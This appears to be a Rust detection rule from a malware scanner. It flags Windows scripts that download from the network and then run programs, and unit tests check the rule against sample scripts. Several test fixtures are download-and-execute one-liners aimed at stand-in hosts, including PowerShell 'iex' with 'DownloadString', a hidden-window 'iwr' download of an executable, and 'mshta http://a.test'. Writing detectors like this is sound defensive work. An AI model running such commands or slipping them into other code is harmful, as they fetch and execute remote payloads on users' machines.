//! A script of Windows that fetches and starts. Administrators do that with PowerShell and batch files, in the open.

use super::{Check, Heuristic};
use crate::artifact::Sign;
use crate::artifact::Tree;
use crate::detect::Strength;
use crate::detect::scripts::{Bundle, scripts};

pub(super) const RULE: Heuristic = Heuristic {
    id: "script-downloads-and-runs",
    strength: Strength::Strong,
    title_en: "The script fetches something from the network and runs programs",
    title_ja: "スクリプトがインターネットからファイルを取り込み、実行します",
    attack: &["T1059.005", "T1059.007", "T1105"],
    page: include_str!("../../../docs/rules/script-downloads-and-runs.md"),
    check,
};

fn check(tree: &Tree, hit: &mut Check) {
    for script in scripts(tree) {
        // What an HTML application loads runs as freely as what stands in it.
        let loads = || ["script", "frame", "object"].iter().find_map(|way| script.leads(way).next());
        if let Some(target) =
            Some(&script).filter(|script| script.holder.kind.id == "hta").and_then(|_| loads())
        {
            hit(script.holder.id, target.to_string());
            continue;
        }
        if let Some(shown) = script.first(Sign::Download).filter(|_| starts(&script)) {
            hit(script.holder.id, shown.to_string());
        }
    }
}

/// Whether a script that fetches also starts, in a way its language has no honest use for.
fn starts(script: &Bundle) -> bool {
    let hides =
        script.has(Sign::HiddenWindow) || script.has(Sign::ChoppedText) || script.decoded().next().is_some();
    match script.holder.kind.id {
        "ps1" => {
            script.has(Sign::Decoding)
                || (script.has(Sign::ProcessStart) && hides)
                || script.has(Sign::Shellcode)
        }
        "bat" => hides && (script.has(Sign::Interpreter) || script.has(Sign::ProcessStart)),
        _ => script.has(Sign::ProcessStart) || script.has(Sign::Interpreter),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::scripts::tests::hits;

    #[test]
    fn downloaders_hit_and_other_scripts_do_not() {
        for (name, source, want) in [
            (
                "a.js",
                "var x = new ActiveXObject('MSXML2.XMLHTTP'); var s = new ActiveXObject('WScript.Shell');",
                1,
            ),
            (
                "a.vbs",
                "Set x = CreateObject(\"MSXML2.\" & \"XMLHTTP\")\nSet s = CreateObject(\"WScr\" & \"ipt.Shell\")",
                1,
            ),
            ("a.ps1", "iex (New-Object Net.WebClient).DownloadString('http://a.test')", 1),
            ("a.bat", "start /min powershell -w hidden -c \"iwr http://a.test -OutFile a.exe\"", 1),
            (
                "a.hta",
                "<script language=vbscript>CreateObject(\"WScript.Shell\").Run \"mshta http://a.test\"</script>",
                1,
            ),
            (
                "a.wsf",
                "<job><script language=JScript><![CDATA[new ActiveXObject('WinHttp.WinHttpRequest.5.1'); new ActiveXObject('Shell.Application')]]></script></job>",
                1,
            ),
            ("a.hta", "<html><script src='https://a.test/x.js'></script>", 1),
            ("a.hta", "<html><hta:application><script>document.title = 'x';</script>", 0),
            (
                "a.txt",
                "<scriptlet><registration progid='a'/><object id='o' progid='WScript.Shell'/><resource id='c'>mshta http://a.test</resource>\
                <script language='VBScript'>o.Run getResource(\"c\")</script></scriptlet>",
                1,
            ),
            (
                "a.wsf",
                "<job><object id='f' progid='Scripting.FileSystemObject'/><resource id='help'>Copies to a share. See http://a.example</resource>\
                <script language='VBScript'>WScript.Echo getResource(\"help\")</script></job>",
                0,
            ),
            (
                "a.ps1",
                "Invoke-WebRequest https://a.example/setup.msi -OutFile setup.msi\nStart-Process setup.msi",
                0,
            ),
            ("a.bat", "curl -O https://a.example/x.zip\r\ntar -xf x.zip", 0),
            ("a.js", "fetch('/x').then(r => r.json());", 0),
        ] {
            assert_eq!(hits(&RULE, name, source.as_bytes()).len(), want, "{source}");
        }
        let page = "<html><script>new ActiveXObject('Microsoft.XMLHTTP'); new ActiveXObject('WScript.Shell');</script>";
        assert_eq!(hits(&RULE, "a.html", page.as_bytes()).len(), 0);
    }
}
